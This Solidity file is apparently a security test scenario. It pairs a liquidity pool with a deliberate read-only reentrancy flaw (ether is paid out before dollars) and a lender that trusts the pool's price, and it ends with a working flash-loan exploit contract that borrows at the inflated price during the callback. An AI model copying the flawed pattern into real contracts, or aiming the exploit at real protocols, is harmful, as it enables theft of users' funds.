// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./Common.sol";

/// A pool of ether and dollars that pays out ether before dollars; in between its virtual price is wrong.
contract EtherPool is Token {
    IERC20 public immutable usd;
    uint256 public immutable etherPrice;
    bool private locked;

    event RemoveLiquidity(address indexed who, uint256 shares, uint256 eth, uint256 cash);
    event AddLiquidity(address indexed who, uint256 shares, uint256 eth, uint256 cash);

    constructor(IERC20 usd_, uint256 price_) payable Token("LP", 18) {
        (usd, etherPrice) = (usd_, price_);
    }

    modifier lock() {
        require(!locked, "locked");
        locked = true;
        _;
        locked = false;
    }

    function get_virtual_price() public view returns (uint256) {
        return totalSupply == 0 ? 1e18 : _value(address(this).balance, usd.balanceOf(address(this))) * 1e18 / totalSupply;
    }

    function _value(uint256 eth, uint256 cash) private view returns (uint256) {
        return eth * etherPrice / 1e18 + cash;
    }

    function add(uint256 cash) external payable lock returns (uint256 shares) {
        uint256 before = _value(address(this).balance - msg.value, usd.balanceOf(address(this)));
        usd.transferFrom(msg.sender, address(this), cash);
        uint256 put = _value(msg.value, cash);
        shares = totalSupply == 0 ? put : put * totalSupply / before;
        _mint(msg.sender, shares);
        emit AddLiquidity(msg.sender, shares, msg.value, cash);
    }

    function remove(uint256 shares) external lock {
        uint256 eth = address(this).balance * shares / totalSupply;
        uint256 cash = usd.balanceOf(address(this)) * shares / totalSupply;
        _burn(msg.sender, shares);
        (bool ok,) = msg.sender.call{value: eth}("");
        require(ok, "pay");
        usd.transfer(msg.sender, cash);
        emit RemoveLiquidity(msg.sender, shares, eth, cash);
    }
}

/// Lends dollars against shares of the pool at their virtual price.
contract ShareLender {
    EtherPool public immutable pool;
    IERC20 public immutable usd;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debt;

    event Deposit(address indexed who, uint256 amount);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);
    event Withdraw(address indexed who, uint256 amount);

    constructor(EtherPool pool_, IERC20 usd_) {
        (pool, usd) = (pool_, usd_);
    }

    function room(address who) public view returns (int256) {
        return int256(collateral[who] * pool.get_virtual_price() / 1e18 * 8 / 10) - int256(debt[who]);
    }

    function deposit(uint256 amount) external {
        pool.transferFrom(msg.sender, address(this), amount);
        collateral[msg.sender] += amount;
        emit Deposit(msg.sender, amount);
    }

    function withdraw(uint256 amount) external {
        collateral[msg.sender] -= amount;
        require(room(msg.sender) >= 0, "collateral");
        pool.transfer(msg.sender, amount);
        emit Withdraw(msg.sender, amount);
    }

    function borrow(uint256 amount) external {
        debt[msg.sender] += amount;
        require(room(msg.sender) >= 0, "collateral");
        usd.transfer(msg.sender, amount);
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        debt[msg.sender] -= amount;
        usd.transferFrom(msg.sender, address(this), amount);
        emit Repay(msg.sender, amount);
    }
}

contract ReadOnlyReentrancyScene is Scene {
    Token public usd;
    EtherPool public pool;
    ShareLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(0), "ETH", 18, 2000e6);
        pool = new EtherPool(IERC20(address(usd)), 2000e18);
        _asset(address(pool), "LP", 18, 1e6);
        lender = new ShareLender(pool, IERC20(address(usd)));
        usd.mint(address(this), 1_000_000e18);
        usd.approve(address(pool), type(uint256).max);
        pool.add{value: 500 ether}(1_000_000e18);
        usd.mint(address(lender), 1_500_000e18);
        _protect(address(pool));
        _protect(address(lender));
        stake = 4500 ether;
        _loan(IERC20(address(usd)), 9_000_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(pool));
        atomic = true;
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 300_000e18, address(pool));
        _arm(usd, users, 300_000e18, address(lender));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 8;
        uint256 held = pool.balanceOf(who);
        int256 room = lender.room(who);
        uint256 owed = lender.debt(who);
        if (kind == 0 && held > 0 && pool.allowance(who, address(lender)) == 0) {
            return (address(pool), 0, abi.encodeCall(Token.approve, (address(lender), type(uint256).max)));
        }
        if (kind == 1 && held > 0 && pool.allowance(who, address(lender)) >= held) {
            return (address(lender), 0, abi.encodeCall(ShareLender.deposit, (held / 2)));
        }
        if (kind == 2 && room > 100e18) return (address(lender), 0, abi.encodeCall(ShareLender.borrow, (uint256(room) / 2)));
        if (kind == 3 && owed > 0) return (address(lender), 0, abi.encodeCall(ShareLender.repay, (owed)));
        if (kind == 4 && held > 0) return (address(pool), 0, abi.encodeCall(EtherPool.remove, (held)));
        uint256 cash = _amount(dice, 100e18, 4_000e18);
        return (address(pool), cash / 2000, abi.encodeCall(EtherPool.add, (cash)));
    }
}

contract ReadOnlyReentrancyAttack is Attack {
    EtherPool private immutable pool;
    ShareLender private immutable lender;
    uint256 private immutable stake;

    constructor(ReadOnlyReentrancyScene scene) Attack(scene) {
        (pool, lender, stake) = (scene.pool(), scene.lender(), scene.stake());
    }

    function _act(uint256, uint256, uint256) internal override {
        loanToken.approve(address(pool), type(uint256).max);
        pool.approve(address(lender), type(uint256).max);
        // A lender's callback carries no value: the stake is already here.
        uint256 shares = pool.add{value: stake}(loanAmount);
        lender.deposit(shares / 20);
        pool.remove(shares - shares / 20);
    }

    function _onEther() internal override {
        if (msg.sender != address(pool)) return;
        int256 room = lender.room(address(this));
        uint256 there = loanToken.balanceOf(address(lender));
        lender.borrow(uint256(room) < there ? uint256(room) : there);
    }
}
